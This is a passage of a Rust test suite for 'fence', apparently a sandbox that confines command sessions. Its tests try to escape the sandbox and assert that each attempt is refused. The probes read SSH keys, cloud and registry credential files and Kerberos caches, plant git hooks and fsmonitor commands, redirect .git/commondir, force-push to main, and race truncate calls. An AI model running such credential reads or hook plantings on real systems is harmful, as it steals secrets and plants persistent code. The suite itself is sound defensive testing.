            vec!["-t", "tmpfs", "-o", "size=64k,mode=0755", "fence-test"],
        ),
        (&tmp_again, vec!["--bind", "/tmp"]),
    ] {
        std::fs::create_dir_all(dir).unwrap();
        gone.0.push(dir.clone());
        let ok = std::process::Command::new("mount")
            .args(args)
            .arg(dir)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "mount onto {}", dir.display());
    }
    std::fs::write(data.join("f"), "ORDINARY-DATA").unwrap();
    let key_again = tmp_again
        .join(w.home.strip_prefix("/tmp").unwrap())
        .join(".ssh/id_ed25519");
    let out = w.run(&[
        "/bin/sh",
        "-c",
        &format!(
            "cat {} {} 2>&1",
            data.join("f").display(),
            key_again.display()
        ),
    ]);
    let text = stdout(&out);
    assert!(
        text.contains("ORDINARY-DATA"),
        "an ordinary file on a mount was unreadable: {text} {}",
        stderr(&out)
    );
    assert!(
        !text.contains("PRIVATE-KEY-MATERIAL"),
        "the key was read: {text}"
    );
    drop(gone);
}

/// A secret reached through a link into the worktree (`~/.ssh -> W/priv/ssh`, a dotfiles
/// checkout) lies in a folder the sandbox may write: that folder is not moved, exchanged or
/// replaced (the secret would lie at a path no rule hides, readable in the next session and,
/// without a mount view, through an open the supervisor carries out in it).
fn a_folder_holding_a_secret_is_not_moved(w: &World) {
    let ssh = w.mkdir("priv/ssh");
    std::fs::write(ssh.join("id_rsa"), "PRIVATE-KEY-MATERIAL").unwrap();
    w.own(&ssh.join("id_rsa"));
    std::os::unix::fs::symlink(&ssh, w.home.join(".ssh")).unwrap();
    w.own(&w.home.join(".ssh"));
    w.mkdir("other");
    w.write(
        "s.sh",
        "mv priv p2; mv priv/ssh other/ssh; python3 -c \"import ctypes; ctypes.CDLL(None).syscall(316, -100, b'priv', -100, b'other', 2)\"\n\
         cat p2/ssh/id_rsa other/ssh/id_rsa other/id_rsa 2>/dev/null\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert!(
        ssh.join("id_rsa").is_file(),
        "the secret's folder moved: {}",
        stderr(&out)
    );
    assert!(!w.worktree.join("p2").exists());
    assert!(!w.worktree.join("other/ssh").exists());
    assert!(
        !stdout(&out).contains("PRIVATE-KEY-MATERIAL"),
        "{}",
        stdout(&out)
    );
    // The next session still cannot read it.
    let out = w.run(&["/bin/sh", "-c", "cat priv/ssh/id_rsa; cat other/id_rsa"]);
    assert!(
        !stdout(&out).contains("PRIVATE-KEY-MATERIAL"),
        "{}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains("Permission denied") || stderr(&out).contains("No such file"),
        "{}",
        stderr(&out)
    );
}

/// In a linked git worktree the repository's other checkouts are unreadable (SPEC §2): the
/// main checkout's files (an untracked `.env`, work in progress) and the other linked
/// worktrees', while the shared git directory serves `git status` and `git log` and takes
/// a `git commit` without an `--allow-write`.
/// From a main checkout, its linked worktrees' state in its git directory stays theirs:
/// their `worktrees/NAME` folders (the index their next commit takes, the commit they are
/// on, the file that keeps them registered) and the branches they are on. From a linked
/// worktree, a sibling's branch is kept as the main checkout's is.
fn a_main_checkout_keeps_its_linked_worktrees_state(w: &World) {
    git_init(w);
    w.write("a.txt", "a\n");
    git(&w.worktree, &["add", "a.txt"]);
    git(&w.worktree, &["commit", "-q", "-m", "c"]);
    let linked = w.outside.join("lw1");
    git(
        &w.worktree,
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "b1",
            &linked.display().to_string(),
        ],
    );
    chown_tree(w, &w.outside);
    chown_tree(w, &w.worktree);
    let admin = w.worktree.join(".git/worktrees/lw1");
    let index = std::fs::read(admin.join("index")).unwrap();
    let head = std::fs::read_to_string(admin.join("HEAD")).unwrap();
    let gitdir = std::fs::read_to_string(admin.join("gitdir")).unwrap();
    let branch = git(&w.worktree, &["rev-parse", "b1"]);
    let out = w.run(&[
        "/bin/sh",
        "-c",
        "B=$(echo planted | git hash-object -w --stdin); \
         GIT_INDEX_FILE=.git/worktrees/lw1/index git update-index --add --cacheinfo 100755,$B,planted.sh; \
         echo 0000000000000000000000000000000000000000 > .git/worktrees/lw1/HEAD; \
         echo /elsewhere/.git > .git/worktrees/lw1/gitdir; \
         git -c user.name=t -c user.email=t@t commit -q --allow-empty -m evil; \
         git update-ref refs/heads/b1 HEAD; git symbolic-ref refs/heads/b1 refs/heads/work; \
         git replace $(git rev-parse b1) HEAD; \
         echo ok > fine.txt",
    ]);
    // A replacement ref would show the linked worktree the session's commit for its own.
    assert_eq!(
        git(&w.worktree, &["replace", "-l"]).trim(),
        "",
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read(admin.join("index")).unwrap(),
        index,
        "{}",
        stderr(&out)
    );
    assert_unchanged(&admin.join("HEAD"), &head);
    assert_unchanged(&admin.join("gitdir"), &gitdir);
    assert_eq!(
        git(&w.worktree, &["rev-parse", "b1"]),
        branch,
        "{}",
        stderr(&out)
    );
    assert_unchanged(&w.worktree.join("fine.txt"), "ok\n");
    // The main checkout's own work goes on: a commit on its branch.
    assert!(
        git(&w.worktree, &["log", "-1", "--format=%s"]).contains("evil"),
        "{}",
        stderr(&out)
    );
}

fn a_linked_worktree_reads_none_of_the_other_checkouts(w: &World) {
    let main = w.outside.join("main");
    std::fs::create_dir_all(&main).unwrap();
    git(&main, &["init", "-q", "-b", "main"]);
    std::fs::write(main.join("tracked.txt"), "TRACKED\n").unwrap();
    git(&main, &["add", "tracked.txt"]);
    git(
        &main,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "-m",
            "c",
        ],
    );
    std::fs::write(main.join("wip.env"), "MAIN-CHECKOUT-SECRET\n").unwrap();
    let wt = w.worktree.display().to_string();
    git(&main, &["worktree", "add", "-q", "-b", "feature", &wt]);
    let sibling = w.outside.join("sibling");
    git(
        &main,
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "other",
            &sibling.display().to_string(),
        ],
    );
    std::fs::write(sibling.join("wip.txt"), "SIBLING-SECRET\n").unwrap();
    // As git writes it with `worktree.useRelativePaths`: relative to its own folder.
    let admin = main.join(".git/worktrees/sibling");
    std::fs::write(admin.join("gitdir"), "../../../../sibling/.git\n").unwrap();
    chown_tree(w, &w.outside);
    chown_tree(w, &w.worktree);
    let out = w.run(&[
        "/bin/sh",
        "-c",
        &format!(
            "cat {m}/wip.env {m}/tracked.txt {s}/wip.txt; ls {m}; git status --short >/dev/null && git log --oneline | head -1 && echo git-works",
            m = main.display(),
            s = sibling.display()
        ),
    ]);
    let text = stdout(&out);
    assert!(
        !text.contains("MAIN-CHECKOUT-SECRET") && !text.contains("SIBLING-SECRET"),
        "another checkout was read: {text}"
    );
    assert!(!text.contains("TRACKED"), "{text}");
    assert!(text.contains("git-works"), "{text}{}", stderr(&out));
    // The shared git directory is writable without being named (SPEC §2): `git commit`
    // works, while its hooks and config keep the worktree's protections.
    let git_dir = main.join(".git");
    let config = std::fs::read_to_string(git_dir.join("config")).unwrap();
    std::fs::write(w.worktree.join("change.txt"), "change\n").unwrap();
    chown_tree(w, &w.worktree);
    let out = w.run(&[
        "/bin/sh",
        "-c",
        &format!(
            "git add change.txt && git -c user.name=t -c user.email=t@t commit -q -m change && echo committed; \
             echo 'touch /tmp/pwned' > {g}/hooks/pre-commit; echo '[core] x = 1' >> {g}/config",
            g = git_dir.display()
        ),
    ]);
    assert!(stdout(&out).contains("committed"), "{}", stderr(&out));
    assert_eq!(
        git(&main, &["log", "-1", "--format=%s", "feature"]).trim(),
        "change"
    );
    assert!(
        !git_dir.join("hooks/pre-commit").exists(),
        "a hook was written"
    );
    assert_unchanged(&git_dir.join("config"), &config);
    // Git in the session sees the sibling's checkout missing and would unregister it: its
    // folder there stays read-only.
    let out = w
        .fence(&[
            "--".as_ref(),
            "git".as_ref(),
            "worktree".as_ref(),
            "prune".as_ref(),
        ])
        .output()
        .unwrap();
    assert!(
        admin.join("gitdir").is_file(),
        "the sibling was unregistered: {}",
        stderr(&out)
    );
    // The sibling's branch is kept as the main checkout's is.
    let other = git(&main, &["rev-parse", "other"]);
    let out = w.run(&[
        "/bin/sh",
        "-c",
        "git update-ref refs/heads/other HEAD; git symbolic-ref refs/heads/other refs/heads/feature",
    ]);
    assert_eq!(
        git(&main, &["rev-parse", "other"]),
        other,
        "{}",
        stderr(&out)
    );
    // The main checkout's own state in the shared git directory is read-only as the
    // sibling's folder is: its branch, its index (what `git restore` takes back), a merge
    // it would conclude, a rebase it would continue, its remote definitions.
    let head = std::fs::read_to_string(git_dir.join("HEAD")).unwrap();
    let index = std::fs::read(git_dir.join("index")).unwrap();
    let out = w.run(&[
        "/bin/sh",
        "-c",
        &format!(
            "cd {g} && echo 'ref: refs/heads/feature' > HEAD; cp index index.new && mv index.new index;              git rev-parse feature > MERGE_HEAD; mkdir -p rebase-merge;              mkdir -p remotes && echo 'URL: /elsewhere' > remotes/origin;              GIT_INDEX_FILE={g}/index git update-index --add --cacheinfo 100755,$(git rev-parse feature:change.txt),build.sh",
            g = git_dir.display()
        ),
    ]);
    assert_unchanged(&git_dir.join("HEAD"), &head);
    assert_eq!(
        std::fs::read(git_dir.join("index")).unwrap(),
        index,
        "the main checkout's index changed: {}",
        stderr(&out)
    );
    for made in ["MERGE_HEAD", "rebase-merge", "remotes/origin"] {
        assert!(
            std::fs::symlink_metadata(git_dir.join(made)).is_err(),
            "{made} was made: {}",
            stderr(&out)
        );
    }
    assert_eq!(git(&main, &["status", "--porcelain"]).trim(), "?? wip.env");
    // Nor is the branch the main checkout is on, packed or loose: neither moved nor made a
    // symbolic ref to the session's branch.
    git(&main, &["pack-refs", "--all"]);
    let tip = git(&main, &["rev-parse", "main"]);
    chown_tree(w, &git_dir);
    let out = w.run(&[
        "/bin/sh",
        "-c",
        "git update-ref refs/heads/main feature; git symbolic-ref refs/heads/main refs/heads/feature; \
         git branch -f main feature; git branch tmp feature && git branch -q -d tmp; echo done",
    ]);
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    // A branch made and deleted: git's rewrite of the shared config that only drops the
    // branch's bookkeeping is carried out, as in the worktree's own repository.
    assert!(
        !stderr(&out).contains("config-file failed"),
        "{}",
        stderr(&out)
    );
    assert_eq!(git(&main, &["branch", "--list", "tmp"]).trim(), "");
    assert_eq!(git(&main, &["rev-parse", "main"]), tip, "{}", stderr(&out));
    assert_eq!(
        git(&main, &["symbolic-ref", "HEAD"]).trim(),
        "refs/heads/main",
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(git_dir.join("refs/heads/main")).unwrap(),
        format!("{}\n", tip.trim()),
        "the packed ref, written loose with its value"
    );
}

/// A push from a script whose home is moved (`HOME=$TMPDIR git push`, with a
/// `~/.gitconfig` there setting `remote.origin.push`) is refused as a push to main at git's
/// exec.
fn a_push_sent_to_main_by_a_moved_home_is_refused(w: &World) {
    push_from_a_script_is_refused(
        w,
        "git checkout -q -b feature\n\
         printf '[remote \"origin\"]\\n\\tpush = +refs/heads/feature:refs/heads/main\\n' > \"$TMPDIR/.gitconfig\"\n\
         HOME=$TMPDIR git push origin feature\n",
    );
}

/// git pushes the branch of the repository it works in: with the worktree on a feature
/// branch, a clone in the session TMPDIR on main, its HEAD pushed, is refused at git's exec (the session cannot know that
/// repository's branch, and fails closed).
fn a_push_of_another_repositorys_head_is_refused(w: &World) {
    let remote = w.outside.join("remote.git");
    push_from_a_script_is_refused(
        w,
        &format!(
            "git checkout -q -b feature && git clone -q . \"$TMPDIR/c\" && cd \"$TMPDIR/c\" && git checkout -q main && git remote set-url origin {r} && git push origin HEAD\n",
            r = remote.display()
        ),
    );
}

/// A Kerberos ticket cache logs in as the user to every service of the realm. fence
/// removes `KRB5CCNAME` from the sandbox's environment, but the file stays where it is:
/// MIT's default `/tmp/krb5cc_<uid>` (sssd's with a suffix), or wherever `KRB5CCNAME`
/// named. Both were readable in every mode (the host's `/tmp` is the sandbox's too); a
/// file of the same folder that is no cache stays readable.
fn kerberos_ticket_caches_are_unreadable(w: &World) {
    let named = w.write_outside("tickets", "TICKET-NAMED");
    let uid = match w.who {
        support::Who::Root => 0,
        _ => support::test_user().unwrap().0,
    };
    let default = Path::new("/tmp").join(format!(
        "krb5cc_{uid}_{}",
        w.worktree.file_name().unwrap().to_string_lossy()
    ));
    std::fs::write(&default, "TICKET-DEFAULT").unwrap();
    w.own(&default);
    std::fs::set_permissions(&default, std::fs::Permissions::from_mode(0o600)).unwrap();
    let plain = w.write_outside("plain.txt", "plain text");
    w.write(
        "s.sh",
        &format!(
            "cat {named}; cat {default}; cat {plain}\n",
            named = named.display(),
            default = default.display(),
            plain = plain.display()
        ),
    );
    let mut all: Vec<&OsStr> = vec![OsStr::new("--")];
    all.extend(["/bin/sh", "s.sh"].iter().map(OsStr::new));
    let out = w
        .fence(&all)
        .env("KRB5CCNAME", format!("FILE:{}", named.display()))
        .output()
        .unwrap();
    let _ = std::fs::remove_file(&default);
    let text = stdout(&out);
    assert!(
        !text.contains("TICKET-NAMED"),
        "KRB5CCNAME's cache read: {text}"
    );
    assert!(
        !text.contains("TICKET-DEFAULT"),
        "/tmp/krb5cc_* read: {text}"
    );
    assert!(
        text.contains("plain text"),
        "an ordinary file beside it unreadable: {text} {}",
        stderr(&out)
    );
}

fn a_secret_made_during_the_session_stays_unreadable(w: &World) {
    // None of these exists when the session starts; they appear while it runs (a login in
    // another terminal), and the sandbox, waiting for them, tries to read them. One is
    // the target of a dangling link (`~/.pypirc` kept in another folder).
    let pypirc = w.outside.join("pypirc");
    std::os::unix::fs::symlink(&pypirc, w.home.join(".pypirc")).unwrap();
    w.own(&w.home.join(".pypirc"));
    w.write(
        "s.sh",
        &format!(
            "while [ ! -e go ]; do sleep 0.05; done\n\
             cat {h}/.netrc {h}/.config/gh/hosts.yml {h}/.docker/config.json {h}/.cargo/credentials.toml {h}/.pypirc {p}\n\
             echo read-done > done\n",
            h = w.home.display(),
            p = pypirc.display()
        ),
    );
    let child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "s.sh".as_ref()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Let the sandbox start before the secrets appear.
    std::thread::sleep(Duration::from_millis(700));
    for (rel, text) in [
        (".netrc", "machine x login u password NETRC-SECRET\n"),
        (".config/gh/hosts.yml", "oauth_token: GH-SECRET\n"),
        (".docker/config.json", "{\"auths\": \"DOCKER-SECRET\"}\n"),
        (".cargo/credentials.toml", "token = \"CARGO-SECRET\"\n"),
    ] {
        let p = w.home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::set_permissions(p.parent().unwrap(), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    std::fs::write(&pypirc, "password = PYPI-SECRET\n").unwrap();
    std::fs::set_permissions(&pypirc, std::fs::Permissions::from_mode(0o644)).unwrap();
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    let text = stdout(&out);
    assert!(
        w.worktree.join("done").exists(),
        "the probe did not run to its end: {}",
        stderr(&out)
    );
    assert!(
        !text.contains("SECRET"),
        "a secret made later leaked: {text}"
    );
}

/// A disk read raw would show every file on it, secrets included: no device but the short
/// list is reachable. A loop device over an image holding a marker, readable by everyone
/// for the test, is read outside (so the probe is sound) and then from the sandbox.
fn a_raw_disk_is_unreadable(w: &World) {
    let test = "a_raw_disk_is_unreadable";
    let marker = format!("RAW-DISK-SECRET-{}-{}", std::process::id(), w.who as u8);
    let image = w.outside.join("disk.img");
    let mut bytes = marker.clone().into_bytes();
    bytes.resize(1 << 20, 0);
    std::fs::write(&image, &bytes).unwrap();
    let attached = std::process::Command::new("losetup")
        .args(["--find", "--show", "--read-only"])
        .arg(&image)
        .output();
    let device = match attached {
        Ok(out) if out.status.success() => String::from_utf8_lossy(&out.stdout).trim().to_string(),
        Ok(out) => {
            support::skip(test, &format!("losetup failed: {}", stderr(&out).trim()));
            return;
        }
        Err(e) => {
            support::skip(test, &format!("no losetup: {e}"));
            return;
        }
    };
    struct Detach(String);
    impl Drop for Detach {
        fn drop(&mut self) {
            let _ = std::process::Command::new("losetup")
                .args(["-d", &self.0])
                .status();
        }
    }
    let _detach = Detach(device.clone());
    std::fs::set_permissions(&device, std::fs::Permissions::from_mode(0o666)).unwrap();
    let mut head = vec![0u8; marker.len()];
    std::io::Read::read_exact(&mut std::fs::File::open(&device).unwrap(), &mut head).unwrap();
    assert_eq!(
        head,
        marker.as_bytes(),
        "the loop device does not show its image"
    );
    let out = w.python(&format!(
        r#"import os
for path in [{device:?}, "/dev/block/" + os.path.basename({device:?})]:
    try:
        with open(path, "rb") as f:
            print(f.read(4096).decode("latin-1"))
    except OSError as e:
        print("refused", path, e.errno)
"#
    ));
    let text = stdout(&out);
    assert!(
        text.contains("refused"),
        "the probe did not run: {text} {}",
        stderr(&out)
    );
    assert!(!text.contains(&marker), "a raw disk was read: {text}");
}

/// Truncation inside the worktree works, and a protected file the host makes during the
/// session (so no read-only mount covers it) is not truncated by path or by an
/// `O_RDONLY|O_TRUNC` open, with writes watched or not (an open for writing is a write:
/// `--no-write-watch` moves one made during the session aside, whoever made it: fence cannot
/// tell the host's from the sandbox's). With a mount view that hides the
/// secrets, Landlock leaves truncation to the supervisor and seccomp; without one,
/// Landlock's own right holds.
fn truncation_inside_works_and_a_protected_file_made_later_is_kept(w: &World) {
    w.write(
        "probe.py",
        r#"import os, time
while not os.path.exists("go"):
    time.sleep(0.05)
for op in [lambda: os.truncate(".envrc", 0),
           lambda: os.close(os.open(".envrc", os.O_RDONLY | os.O_TRUNC)),
           lambda: os.close(os.open(".envrc", 3 | os.O_TRUNC)),
           lambda: os.close(os.open("/proc/self/fd/0", 3 | os.O_TRUNC))]:
    try:
        op()
        print("truncated")
    except OSError as e:
        print("refused", e.errno)
os.truncate("inside.txt", 4)
fd = os.open("inside.txt", os.O_WRONLY)
os.ftruncate(fd, 3)
os.close(fd)
open("done", "w").close()
"#,
    );
    // --no-write-watch needs a mount namespace.
    let modes: &[&[&str]] = if w.who == support::Who::UnprivilegedWithoutNamespaces {
        &[&[]]
    } else {
        &[&[], &["--no-write-watch"]]
    };
    for flags in modes {
        for p in ["go", "done", ".envrc"] {
            let _ = std::fs::remove_file(w.worktree.join(p));
        }
        for e in std::fs::read_dir(&w.worktree).unwrap().flatten() {
            if e.file_name()
                .to_string_lossy()
                .starts_with(".envrc.fence-blocked-")
            {
                let _ = std::fs::remove_file(e.path());
            }
        }
        w.write("inside.txt", "0123456789");
        let mut args: Vec<&OsStr> = flags.iter().map(OsStr::new).collect();
        args.extend([OsStr::new("--"), OsStr::new(PYTHON), OsStr::new("probe.py")]);
        // Its standard input is a file outside, opened for reading: truncating it through
        // /proc/self/fd/0 would reach the host's file.
        let input = w.write_outside("input.txt", "host input\n");
        let child = w
            .fence(&args)
            .stdin(std::fs::File::open(&input).unwrap())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(700));
        // Made whole under another name and renamed into place, owned as the sandbox's
        // user before: under --no-write-watch the name is moved aside as it appears.
        let staged = w.write("envrc.staged", "export PATH=/usr/bin\n");
        let envrc = w.worktree.join(".envrc");
        std::fs::rename(&staged, &envrc).unwrap();
        w.write("go", "");
        let out = child.wait_with_output().unwrap();
        assert!(
            w.worktree.join("done").exists(),
            "{flags:?}: the probe did not run to its end: {} {}",
            stdout(&out),
            stderr(&out)
        );
        if flags.is_empty() {
            assert_unchanged(&envrc, "export PATH=/usr/bin\n");
        } else {
            assert!(!envrc.exists(), "{}", stderr(&out));
            let aside = std::fs::read_dir(&w.worktree)
                .unwrap()
                .flatten()
                .find(|e| {
                    e.file_name()
                        .to_string_lossy()
                        .starts_with(".envrc.fence-blocked-")
                })
                .map(|e| e.path())
                .unwrap_or_else(|| panic!("not moved aside: {}", stderr(&out)));
            assert_unchanged(&aside, "export PATH=/usr/bin\n");
            assert!(stderr(&out).contains("moved aside"), "{}", stderr(&out));
        }
        assert_unchanged(&input, "host input\n");
        assert!(
            !stdout(&out).contains("truncated"),
            "{flags:?}: {}",
            stdout(&out)
        );
        assert_unchanged(&w.worktree.join("inside.txt"), "012");
    }
}

/// With writes left to Landlock, a protected path missing at start has no read-only mount:
/// the sandbox making `.git/commondir` (git would then take its config and hooks from a
/// folder the sandbox wrote), `.git/config.worktree`, `.envrc` or an agent's settings finds
/// it moved aside as soon as it is made, so that the user's git, run outside during the
/// session or after it, runs nothing the sandbox planted. `git commit` still works.
fn protected_paths_made_under_no_write_watch_are_moved_aside(w: &World) {
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        support::skip(
            "without_namespaces::protected_paths_made_under_no_write_watch_are_moved_aside",
            "--no-write-watch needs a mount namespace",
        );
        return;
    }
    git_init(w);
    let marker = w.outside.join("planted-hook-ran");
    w.write(
        "plant.sh",
        &format!(
            "mkdir -p src/evil/hooks && cp -r .git/objects .git/refs .git/HEAD src/evil/\n\
             printf '[core]\\n\\tbare = false\\n' > src/evil/config\n\
             printf '#!/bin/sh\\ntouch {m}\\n' > src/evil/hooks/pre-commit\n\
             chmod +x src/evil/hooks/pre-commit\n\
             echo ../src/evil > .git/commondir\n\
             printf '[core]\\n\\tfsmonitor = touch {m}\\n' > .git/config.worktree\n\
             echo 'touch {m}' > .envrc\n\
             mkdir -p .claude && echo '{{}}' > .claude/settings.json\n\
             sleep 0.3\n\
             echo one > one.txt && git add one.txt && git -c user.name=t -c user.email=t@t commit -q -m one && echo committed\n",
            m = marker.display()
        ),
    );
    let out = w
        .fence(&["--no-write-watch", "--", "/bin/sh", "plant.sh"].map(OsStr::new))
        .output()
        .unwrap();
    let err = stderr(&out);
    assert!(stdout(&out).contains("committed"), "{err}");
    for made in [
        ".git/commondir",
        ".git/config.worktree",
        ".envrc",
        ".claude/settings.json",
    ] {
        assert!(
            !w.worktree.join(made).exists(),
            "{made} was left in place: {err}"
        );
        assert!(err.contains(made), "{made} not named: {err}");
    }
    // The user's git, outside, after the session.
    w.write("two.txt", "2\n");
    git(&w.worktree, &["add", "two.txt"]);
    git(&w.worktree, &["status", "--short"]);
    let _ = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "-m",
            "two",
        ])
        .current_dir(&w.worktree)
        .output();
    assert!(
        !marker.exists(),
        "the user's git ran what the sandbox planted: {err}"
    );
}

/// A thread swapping the path between a file inside and a protected file the host made
/// during the session (no read-only mount covers it) during 10,000 `truncate` calls never
/// truncates the protected one: where Landlock does not govern truncation, the supervisor
/// performs it on the object it checked.
fn a_thread_swapping_the_path_never_truncates_a_protected_file(w: &World) {
    let test = "a_thread_swapping_the_path_never_truncates_a_protected_file";
    if missing_tool(test, "cc", "no C compiler (cc)") {
        return;
    }
    let inside = w.write("ok.txt", "inside");
    let envrc = w.worktree.join(".envrc");
    let src = format!(
        r#"#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static char path[4096];
static const char *in = "{inside}", *out = "{envrc}";
static volatile int stop;
static void spin(void) {{ __asm__ volatile("" ::: "memory"); for (volatile int i = 0; i < 200; i++) {{}} __asm__ volatile("" ::: "memory"); }}
static void *swap(void *arg) {{
    (void)arg;
    while (!stop) {{ strcpy(path, out); spin(); strcpy(path, in); spin(); }}
    return 0;
}}
int main(void) {{
    pthread_t t;
    int ok = 0, refused = 0;
    while (access("go", F_OK) != 0) usleep(20000);
    strcpy(path, in);
    pthread_create(&t, 0, swap, 0);
    for (int i = 0; i < 10000; i++) {{
        if (truncate(path, 0) == 0) ok++; else refused++;
    }}
    stop = 1;
    pthread_join(t, 0);
    printf("%d %d\n", ok, refused);
    return 0;
}}
"#,
        inside = inside.display(),
        envrc = envrc.display()
    );
    let bin = w.compile_c("race", &src);
    let child = w
        .fence(&["--quiet-blocks".as_ref(), "--".as_ref(), bin.as_os_str()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(700));
    w.write(".envrc", "export PATH=/usr/bin\n");
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_unchanged(&envrc, "export PATH=/usr/bin\n");
    let counts: Vec<u32> = stdout(&out)
        .split_whitespace()
        .filter_map(|n| n.parse().ok())
        .collect();
    assert!(
        counts.len() == 2 && counts[0] > 0 && counts[1] > 0,
        "race not exercised: {counts:?}"
    );
}

/// `mkdir -p` makes each folder of a path in turn and goes on where one exists: a folder
/// outside the worktree that exists gets the kernel's EEXIST, without a reason line or a
/// question, while a new one outside is still refused and not made.
fn mkdir_of_a_folder_outside_that_exists_says_it_exists(w: &World) {
    let test = "mkdir_of_a_folder_outside_that_exists_says_it_exists";
    if !support::python_ready(test) {
        return;
    }
    let fresh = format!("/etc/fence-mkdir-{}", std::process::id());
    let out = w.python(&format!(
        r#"import os
for p in ["/etc", "/usr/bin", {fresh:?}]:
    try:
        os.mkdir(p)
        print(p, "made")
    except OSError as e:
        print(p, e.errno)
"#
    ));
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(text.contains("/etc 17"), "{text} {err}");
    assert!(text.contains("/usr/bin 17"), "{text} {err}");
    assert!(text.contains(&format!("{fresh} 13")), "{text} {err}");
    assert!(!Path::new(&fresh).exists(), "{fresh} was made");
    assert!(!err.contains(": /etc (rule"), "{err}");
    assert!(!err.contains(": /usr/bin (rule"), "{err}");
    assert!(
        err.contains(&fresh),
        "the new folder's refusal says why: {err}"
    );
}

/// A pseudo-terminal of the host's: its master side and the path of its slave.
fn host_pty() -> (std::fs::File, String) {
    // SAFETY: plain libc calls on a descriptor this function opens and hands over.
    unsafe {
        let m = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
        assert!(m >= 0, "posix_openpt");
        assert_eq!(libc::grantpt(m), 0);
        assert_eq!(libc::unlockpt(m), 0);
        let name = std::ffi::CStr::from_ptr(libc::ptsname(m))
            .to_str()
            .unwrap()
            .to_string();
        (
            <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(m),
            name,
        )
    }
}

/// Opens the terminal at `path` for reading and writing, without making it the caller's
/// controlling terminal.
fn open_terminal(path: &str) -> std::fs::File {
    use std::os::unix::fs::OpenOptionsExt;
    std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(libc::O_NOCTTY)
        .open(path)
        .unwrap()
}

/// Keeps what the terminal's master side shows, read on a thread of its own so that no
/// write to the terminal waits on a full buffer.
fn show_terminal(master: &std::fs::File) -> std::sync::Arc<std::sync::Mutex<Vec<u8>>> {
    let mut reader = master.try_clone().unwrap();
    let shown = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let shown_by_reader = shown.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n @ 1..) = std::io::Read::read(&mut reader, &mut buf) {
            shown_by_reader.lock().unwrap().extend_from_slice(&buf[..n]);
        }
    });
    shown
}

/// An interactive bash as the leader of a session on the terminal whose slave side
/// `open_slave` opens, as at a prompt (the test types the commands), with `env` set.
fn bash_on_terminal(
    w: &World,
    open_slave: &dyn Fn() -> std::fs::File,
    env: &[(&str, &OsStr)],
) -> std::process::Child {
    let mut shell = w.command_as_runner("bash");
    shell
        .args(["--norc", "--noprofile", "-i"])
        .envs(env.iter().copied());
    lead_a_session_on_terminal(&mut shell, open_slave);
    shell.spawn().unwrap()
}

/// Makes `command` the leader of a new session whose controlling terminal is the one
/// `open_slave` opens, with the terminal as its standard streams.
fn lead_a_session_on_terminal(
    command: &mut std::process::Command,
    open_slave: &dyn Fn() -> std::fs::File,
) {
    use std::os::unix::process::CommandExt;
    command
        .stdin(Stdio::from(open_slave()))
        .stdout(Stdio::from(open_slave()))
        .stderr(Stdio::from(open_slave()));
    // SAFETY: setsid and ioctl are async-signal-safe; the closure touches nothing else.
    unsafe {
        command.pre_exec(|| {
            if libc::setsid() < 0 || libc::ioctl(0, libc::TIOCSCTTY, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
}

/// `fcntl(F_SETFL, … | O_ASYNC)` on the terminal, with `F_SETSIG` naming a signal: the
/// terminal's input must not make the kernel send that signal in fence's name (to fence's
/// own job, which would end the session, or to the user's shell). Checked by fence's exit:
/// the command runs to its end, and SIGTERM reaches nobody.
fn o_async_turned_on_with_fcntl_sends_no_signal_in_fences_name(w: &World) {
    let (mut master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let shown = show_terminal(&master);
    w.write(
        "probe.py",
        r#"import fcntl, os, signal, time
fcntl.fcntl(0, 10, signal.SIGTERM)  # F_SETSIG
try:
    fcntl.fcntl(0, fcntl.F_SETFL, fcntl.fcntl(0, fcntl.F_GETFL) | os.O_ASYNC)
except OSError:
    pass
open('ready', 'w').close()
for _ in range(100):
    if os.path.exists('go'):
        break
    time.sleep(0.1)
time.sleep(0.5)
"#,
    );
    let args: Vec<&OsStr> = vec![OsStr::new("--"), OsStr::new(PYTHON), OsStr::new("probe.py")];
    let mut fence = w.fence(&args);
    lead_a_session_on_terminal(&mut fence, &open_slave);
    let mut child = fence.spawn().unwrap();
    wait_for_file(w, &mut child, "ready");
    std::io::Write::write_all(&mut master, b"typed\n").unwrap();
    w.write("go", "");
    let status = child.wait().unwrap();
    assert_eq!(
        status.code(),
        Some(0),
        "the session did not run to its end: {status:?} {}",
        String::from_utf8_lossy(&shown.lock().unwrap())
    );
}

/// fence run as a background job of a terminal session whose foreground job lies outside
